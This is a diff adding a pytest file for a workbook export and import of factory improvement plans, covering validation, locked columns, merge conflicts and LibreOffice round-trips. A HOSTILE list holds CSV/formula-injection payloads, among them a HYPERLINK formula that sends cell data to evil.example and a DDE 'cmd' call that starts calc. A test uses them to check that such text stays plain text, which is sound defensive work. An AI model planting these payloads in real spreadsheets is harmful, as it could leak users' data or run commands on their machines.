@@ -1,0 +1,390 @@
+"""The Improvement Plan offline: a workbook written, edited in openpyxl or LibreOffice, and
+brought back with the same field-level merge as the apps, every problem named."""
+
+from __future__ import annotations
+
+import datetime as dt
+import os
+import shutil
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+from openpyxl.worksheet.worksheet import Worksheet
+
+from bwcases.core.errors import ImportConflictError, InputError, NotFoundError
+from bwcases.io.importers import import_file
+from bwcases.io.plan_workbook import COLUMNS, import_plan_workbook
+from bwcases.reports.plan_workbook import NEW_ROWS, write_plan_workbook
+from bwcases.store import Store
+from tests.helpers import ROOT, bw, state
+from tests.test_plan_merge import ADVISOR, EXIT, WAGES, edit_in_app, item, plan_file
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "<script>alert(1)</script> & \u202egnp.exe",
+    "-2+3",
+]
+
+
+@pytest.fixture
+def planned(store: Store, export_file: Path, tmp_path: Path) -> Store:
+    """VN001 with two items: a finding (Underpaid, row 2) and a self-diagnosis (Exit blocked)."""
+    import_file(store, "assessments", export_file)
+    import_file(store, "improvement-plan", plan_file(tmp_path / "plan.csv", WAGES, EXIT))
+    return store
+
+
+def retitle(store: Store, issue: str, new: str, **changes: Any) -> None:
+    """The advisor gives an item another issue text (and other changes) in the app."""
+    current = item(store, issue)
+    values = {"issue": new, **changes}
+    store.save_plan_item(
+        current["item_id"], values, expected_version=current["version"], actor=ADVISOR
+    )
+
+
+def written(store: Store, path: Path, lang: str = "en") -> Path:
+    write_plan_workbook(store, "VN001", path, lang=lang)
+    return path
+
+
+def col(column: str) -> int:
+    return COLUMNS.index(column) + 1
+
+
+def put(ws: Worksheet, row: int, column: str, value: Any) -> None:
+    ws.cell(row=row, column=col(column)).value = value
+
+
+def get(ws: Worksheet, row: int, column: str) -> Any:
+    return ws.cell(row=row, column=col(column)).value
+
+
+def edited(path: Path, *changes: tuple[int, str, Any]) -> Path:
+    """The workbook as openpyxl saves it with these (row, column, value) changes."""
+    book = openpyxl.load_workbook(path)
+    for row, column, value in changes:
+        put(book.worksheets[0], row, column, value)
+    book.save(path)
+    return path
+
+
+# -- the written file ---------------------------------------------------------------------------
+
+
+def test_the_sheet_has_lists_real_dates_locked_ids_and_a_frozen_header(
+    planned: Store, tmp_path: Path
+) -> None:
+    book = openpyxl.load_workbook(written(planned, tmp_path / "plan.xlsx"))
+    ws = book.worksheets[0]
+    assert [c.value for c in ws[1]] == list(COLUMNS)
+    assert ws.freeze_panes == "A2"
+    last = 3 + NEW_ROWS  # two items, then the rows for new ones
+    checks = {
+        (dv.type, str(dv.formula1)): str(dv.sqref) for dv in ws.data_validations.dataValidation
+    }
+    assert checks == {
+        ("list", '"Pending,In Progress,Completed"'): f"N2:N{last}",
+        ("list", '"High,Medium,Low"'): f"M2:M{last}",
+        ("list", '"yes,no"'): f"O2:O{last}",
+        ("date", "DATE(2000,1,1)"): f"L2:L{last}",
+    }
+    # sheet protection without a password: she can lift it in Excel and LibreOffice alike
+    assert ws.protection.sheet and not ws.protection.password
+    locked = {c: ws.cell(row=2, column=col(c)).protection.locked for c in COLUMNS}
+    assert [c for c, on in locked.items() if on] == [
+        "Item.ID",
+        "Version",
+        "Factory.ID",
+        "Quest.ID",
+        "Question.ID",
+        "CAT.Question",
+    ]
+    # a new row names its factory and finding itself, but never an ID or a version
+    new = {c: ws.cell(row=4, column=col(c)).protection.locked for c in COLUMNS}
+    assert [c for c, on in new.items() if on] == ["Item.ID", "Version", "CAT.Question"]
+    wages = {c: get(ws, 2, c) for c in COLUMNS}
+    assert wages["Item.ID"] == item(planned, "Underpaid")["item_id"]
+    assert (wages["Version"], wages["Due.Date"]) == (1, dt.datetime(2023, 6, 1))
+    assert ws.cell(row=2, column=col("Due.Date")).number_format == "DD/MM/YYYY"
+    assert ws.cell(row=9, column=col("Due.Date")).number_format == "DD/MM/YYYY"
+    # the CAT question beside the issue, as context
+    assert wages["CAT.Question"] == "Are workers paid the minimum wage?"
+    assert get(ws, 3, "CAT.Question") is None  # a self-diagnosis item has none
+    assert ws.column_dimensions["H"].width == 40  # Issue
+    assert book.sheetnames == ["Plan", "Instructions"]
+    notes = [c.value for c in book["Instructions"]["A"] if c.value]
+    assert notes[0] == "Improvement Plan of Saigon Garments (VN001)"
+    assert any("bwcases import improvement-plan FILE.xlsx" in line for line in notes)
+
+
+def test_the_export_command_writes_the_workbook_and_names_a_wrong_factory(
+    planned: Store, store_url: str, tmp_path: Path
+) -> None:
+    out = tmp_path / "plan.xlsx"
+    done = bw("--db", store_url, "export", "improvement-plan", "--factory", "VN001", "-o", str(out))
+    assert done.exit_code == 0, done.stderr
+    assert done.stderr == f"2 items of VN001 written to {out}\n"
+    assert import_file(planned, "improvement-plan", out).endswith("0 added, 0 updated")
+    wrong = bw("--db", store_url, "export", "improvement-plan", "--factory", "XX9", "-o", str(out))
+    assert (wrong.exit_code, wrong.stderr) == (2, "bwcases: no factory 'XX9' in the store\n")
+    blind = bw("--db", store_url, "export", "improvement-plan", "-o", str(out))
+    assert blind.exit_code == 2
+    assert "needs --factory ID and -o FILE.xlsx" in blind.stderr
+    assert not (tmp_path / "plan.xlsx.part").exists()
+
+
+def test_an_unknown_factory_writes_no_file(planned: Store, tmp_path: Path) -> None:
+    with pytest.raises(NotFoundError):
+        write_plan_workbook(planned, "XX9", tmp_path / "plan.xlsx")
+    assert not (tmp_path / "plan.xlsx").exists()
+
+
+# -- brought back after openpyxl edited it ------------------------------------------------------
+
+
+def test_an_unchanged_workbook_imports_as_no_change(planned: Store, tmp_path: Path) -> None:
+    path = written(planned, tmp_path / "plan.xlsx")
+    before = state(planned)
+    summary = import_file(planned, "improvement-plan", path)
+    assert summary == "plan.xlsx: 2 rows read, 0 added, 0 updated"
+    assert state(planned)[0] == before[0]  # not one audited write
+
+
+def test_a_status_a_date_and_a_new_row_are_written(planned: Store, tmp_path: Path) -> None:
+    path = edited(
+        written(planned, tmp_path / "plan.xlsx"),
+        (2, "Status", "In Progress"),
+        (3, "Due.Date", dt.date(2024, 2, 29)),
+        (4, "Compliance.point", "Fire Safety"),
+        (4, "Issue", "No fire drills"),
+        (4, "Due.Date", "31/12/2024"),  # typed as text: read as the programme writes dates
+        (4, "Priority", "High"),
+    )
+    summary = import_file(planned, "improvement-plan", path, actor="Ms Hoa")
+    assert summary == "plan.xlsx: 3 rows read, 1 added, 2 updated"
+    wages, exit_ = item(planned, "Underpaid"), item(planned, "Exit blocked")
+    assert (wages["status"], wages["version"], wages["updated_by"]) == ("In Progress", 2, "Ms Hoa")
+    assert exit_["due_date"] == dt.date(2024, 2, 29)
+    drills = item(planned, "No fire drills")
+    assert (drills["factory_id"], drills["source"], drills["quest_id"]) == (
+        "VN001",
+        "self-diagnosis",
+        None,
+    )
+    assert (drills["due_date"], drills["priority"], drills["status"]) == (
+        dt.date(2024, 12, 31),
+        "High",
+        "Pending",
+    )
+    updates = planned.progress_updates_frame()
+    assert updates[["old_status", "new_status", "note"]].values.tolist() == [
+        ["Pending", "In Progress", "imported from plan.xlsx"]
+    ]
+    # brought back twice by mistake: the new row is the item it made, nothing is added
+    again = import_file(planned, "improvement-plan", path, actor="Ms Hoa")
+    assert again == "plan.xlsx: 3 rows read, 0 added, 0 updated"
+    assert len(planned.plan_items_frame()) == 3
+
+
+def test_every_problem_is_named_by_row_column_and_value_and_nothing_is_written(
+    planned: Store, tmp_path: Path
+) -> None:
+    wages = item(planned, "Underpaid")["item_id"]
+    path = edited(
+        written(planned, tmp_path / "plan.xlsx"),
+        (2, "Status", "Done"),
+        (2, "Action", "Pay the minimum by June"),  # a good change, not written either
+        (3, "Priority", "Urgent"),
+        (3, "Due.Date", "31/02/2024"),
+        (4, "Issue", "A new item without its compliance point"),
+        (5, "Compliance.point", "Fire Safety"),
+        (5, "Item.ID", wages),  # a copy of row 2's ID
+        (5, "Version", 1),
+        (5, "Status", "Pending"),
+        (5, "Priority", "Low"),
+    )
+    before = state(planned)
+    with pytest.raises(InputError) as err:
+        import_file(planned, "improvement-plan", path)
+    assert str(err.value).splitlines() == [
+        "plan.xlsx row 2, column Status: 'Done' is not Pending, In Progress or Completed "
+        "(choose it from the cell's list)",
+        "plan.xlsx row 3, column Due.Date: '31/02/2024' is not a date that exists (dd/mm/yyyy)",
+        "plan.xlsx row 3, column Priority: 'Urgent' is not High, Medium or Low (choose it from "
+        "the cell's list)",
+        "plan.xlsx row 4, column Compliance.point: is empty; a value is needed",
+        f"plan.xlsx row 5, column Item.ID: '{wages}' is the item of row 2 too: give each item "
+        "one row",
+        "Nothing was written.",
+    ]
+    assert state(planned)[0] == before[0]
+    assert item(planned, "Underpaid")["action"] == "Pay the minimum"
+
+
+@pytest.mark.parametrize(
+    ("change", "reason"),
+    [
+        ((2, "Item.ID", 999), "Item.ID: '999' is not an item in the store"),
+        ((2, "Version", 7), "Version: '7' is later than the item's version in the store"),
+        ((2, "Version", None), "Version: is empty; a row with an Item.ID needs the version"),
+        ((4, "Version", 1), "Version: '1' is given but Item.ID is empty"),
+        ((4, "Factory.ID", "XX9"), "Factory.ID: 'XX9' is not a factory in the store"),
+    ],
+)
+def test_a_row_that_names_no_item_it_could_be_is_refused(
+    planned: Store, tmp_path: Path, change: tuple[int, str, Any], reason: str
+) -> None:
+    changes = [change]
+    if change[0] == 4:  # a new row, else it would be empty
+        changes.append((4, "Compliance.point", "Fire Safety"))
+    path = edited(written(planned, tmp_path / "plan.xlsx"), *changes)
+    with pytest.raises(InputError) as err:
+        import_file(planned, "improvement-plan", path)
+    assert f"plan.xlsx row {change[0]}, column {reason}" in str(err.value)
+
+
+def test_a_workbook_brought_back_to_one_factory_keeps_to_it(planned: Store, tmp_path: Path) -> None:
+    path = edited(
+        written(planned, tmp_path / "plan.xlsx"),
+        (4, "Compliance.point", "Hazardous Work"),
+        (4, "Factory.ID", "KH001"),
+    )
+    with pytest.raises(InputError, match="row 4, column Factory.ID: 'KH001' is not VN001"):
+        import_plan_workbook(planned, path, "Ms Hoa", factory_id="VN001")
+    assert len(planned.plan_items_frame()) == 2
+
+
+def test_a_stale_version_keeps_the_apps_change_beside_hers(planned: Store, tmp_path: Path) -> None:
+    path = written(planned, tmp_path / "plan.xlsx")  # she takes the file at version 1
+    edit_in_app(planned, "Underpaid", action="Pay arrears first", due_date=dt.date(2023, 7, 1))
+    edited(path, (2, "Responsible", "Finance manager"))
+    assert import_file(planned, "improvement-plan", path).endswith("0 added, 1 updated")
+    wages = item(planned, "Underpaid")
+    assert (wages["action"], wages["due_date"], wages["responsible"]) == (
+        "Pay arrears first",
+        dt.date(2023, 7, 1),
+        "Finance manager",
+    )
+
+
+def test_a_field_both_changed_is_a_conflict_unless_hers_may_win(
+    planned: Store, tmp_path: Path
+) -> None:
+    path = written(planned, tmp_path / "plan.xlsx")
+    wages = item(planned, "Underpaid")["item_id"]
+    edit_in_app(planned, "Underpaid", action="Pay arrears first")
+    edited(path, (2, "Action", "Pay the minimum by June"), (3, "Notes", "drill done"))
+    before = state(planned)
+    with pytest.raises(ImportConflictError) as err:
+        import_file(planned, "improvement-plan", path)
+    assert str(err.value).splitlines()[0] == (
+        f"plan.xlsx row 2 (item {wages} (VN001 / Minimum Wages/Piece Rate Wages)), column "
+        "Action: the file says 'Pay the minimum by June', the store says 'Pay arrears first' "
+        f"(changed by {ADVISOR} since the last import)"
+    )
+    assert state(planned)[0] == before[0]  # row 3's notes neither
+    summary = import_file(planned, "improvement-plan", path, overwrite=True)
+    assert summary.endswith("0 added, 2 updated")
+    assert item(planned, "Underpaid")["action"] == "Pay the minimum by June"
+    assert item(planned, "Exit blocked")["notes"] == "drill done"
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_text_stays_text_in_the_cell_and_comes_back_unchanged(
+    planned: Store, tmp_path: Path, text: str
+) -> None:
+    retitle(planned, "Exit blocked", text)
+    path = written(planned, tmp_path / "plan.xlsx")
+    ws = openpyxl.load_workbook(path).worksheets[0]
+    cell = ws.cell(row=3, column=col("Issue"))
+    assert (cell.value, cell.data_type) == (text, "s")  # never a formula
+    assert import_file(planned, "improvement-plan", path).endswith("0 added, 0 updated")
+
+
+# -- brought back after LibreOffice saved it ------------------------------------------------------
+
+
+@pytest.fixture(scope="session")
+def soffice(tmp_path_factory: pytest.TempPathFactory) -> list[str]:
+    """LibreOffice's command, headless, with a profile of its own; installed when missing."""
+    if shutil.which("soffice") is None:
+        subprocess.run(
+            [ROOT / "scripts" / "system-packages.sh", "libreoffice-calc-nogui"], check=False
+        )
+    if shutil.which("soffice") is None:
+        if os.environ.get("CI"):
+            pytest.fail("LibreOffice (Debian's libreoffice-calc-nogui) could not be installed")
+        pytest.skip("no LibreOffice: install Debian's libreoffice-calc-nogui (./test.sh does)")
+    profile = tmp_path_factory.mktemp("libreoffice-profile")
+    return ["soffice", "--headless", "--norestore", f"-env:UserInstallation={profile.as_uri()}"]
+
+
+def converted(soffice: list[str], path: Path, to: str) -> Path:
+    """The file LibreOffice writes when it opens `path` and saves it as `to` (ods, xlsx)."""
+    out = path.parent / f"by-libreoffice-{to}"
+    out.mkdir(exist_ok=True)
+    command = [*soffice, "--convert-to", to, "--outdir", str(out), str(path)]
+    done = subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)
+    result = out / f"{path.stem}.{to}"
+    assert result.is_file(), done.stdout + done.stderr
+    return result
+
+
+def test_a_workbook_libreoffice_saved_again_imports_as_no_change(
+    planned: Store, tmp_path: Path, soffice: list[str]
+) -> None:
+    retitle(planned, "Exit blocked", HOSTILE[0], due_date=dt.date(2024, 2, 29))
+    ods = converted(soffice, written(planned, tmp_path / "plan.xlsx"), "ods")
+    path = converted(soffice, ods, "xlsx")
+    book = openpyxl.load_workbook(path)
+    ws = book.worksheets[0]
+    # what LibreOffice kept: the lists, the locks, the dates as dates, the text as text
+    kinds = sorted(str(dv.formula1) for dv in ws.data_validations.dataValidation)
+    assert kinds == [
+        '"High,Medium,Low"',
+        '"Pending,In Progress,Completed"',
+        '"yes,no"',
+        "DATE(2000,1,1)",
+    ]
+    assert ws.protection.sheet
+    assert ws.cell(row=2, column=col("Item.ID")).protection.locked
+    assert not ws.cell(row=2, column=col("Action")).protection.locked
+    assert get(ws, 3, "Due.Date") == dt.datetime(2024, 2, 29)
+    assert (get(ws, 3, "Issue"), ws.cell(row=3, column=col("Issue")).data_type) == (
+        HOSTILE[0],
+        "s",
+    )
+    before = state(planned)
+    summary = import_file(planned, "improvement-plan", path)
+    assert summary == "plan.xlsx: 2 rows read, 0 added, 0 updated"
+    assert state(planned)[0] == before[0]
+
+
+def test_changes_libreoffice_carried_are_written(
+    planned: Store, tmp_path: Path, soffice: list[str]
+) -> None:
+    path = edited(
+        written(planned, tmp_path / "plan.xlsx", lang="vi"),
+        (2, "Status", "Completed"),
+        (2, "PICC.Agreed", "yes"),
+        (3, "Due.Date", dt.date(2025, 1, 15)),
+        (5, "Compliance.point", "Fire Safety"),
+        (5, "Issue", "No fire drills"),
+    )
+    back = converted(soffice, converted(soffice, path, "ods"), "xlsx")
+    summary = import_file(planned, "improvement-plan", back)
+    assert summary == "plan.xlsx: 3 rows read, 1 added, 2 updated"
+    wages = item(planned, "Underpaid")
+    assert (wages["status"], wages["picc_agreed"], wages["verification"]) == (
+        "Completed",
+        True,
+        "awaiting",  # a public-disclosure finding: its completion is verified
+    )
+    assert item(planned, "Exit blocked")["due_date"] == dt.date(2025, 1, 15)
+    assert item(planned, "No fire drills")["compliance_point"] == "Fire Safety"
